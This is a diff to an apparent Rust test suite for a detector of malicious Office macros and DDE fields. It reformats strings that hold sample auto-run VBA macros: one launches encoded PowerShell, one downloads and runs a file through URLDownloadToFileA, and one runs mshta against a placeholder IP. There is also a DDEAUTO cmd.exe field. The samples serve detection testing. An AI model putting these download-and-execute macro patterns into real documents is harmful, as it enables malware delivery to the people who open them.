@@ -21,7 +21,8 @@ fn module(body: &str) -> String {
 
 fn vba() -> Vec<Sample> {
     let host = "Sub Auto·Open()\r\n  Sh·ell \"powers·hell -enc AAAA\", vbHide\r\nEnd Sub";
-    let fetch = "Private Declare Function F Lib \"urlmon\" Alias \"URLDownload·ToFileA\" () As Long\r\nSub Workbook_·Open()\r\n  F 0, u, p, 0, 0\r\n  Sh·ell p\r\nEnd Sub";
+    let fetch = "Private Declare Function F Lib \"urlmon\" Alias \"URLDownload·ToFileA\" () As Long\r\n\
+         Sub Workbook_·Open()\r\n  F 0, u, p, 0, 0\r\n  Sh·ell p\r\nEnd Sub";
     let document = "Private Sub Document_·Open()\r\n  CreateObject(\"WScr·ipt.Shell\").Ru·n \"ms·hta http://198.51.100.7/a\", 0\r\nEnd Sub";
     vec![
         hit(VBA, "scripting host", module(host)),
@@ -115,8 +116,9 @@ fn dde() -> Vec<Sample> {
         miss(
             DDE,
             "a text about it",
-            plain("<w:instrText> with DDE·AUTO c:\\\\windows\\\\cm·d.exe is an old trick.")
-                .replacen('<', "The field <", 1),
+            plain(
+                "The field <w:instrText> with DDE·AUTO c:\\\\windows\\\\cm·d.exe is an old trick.",
+            ),
         ),
         miss(
             DDE,
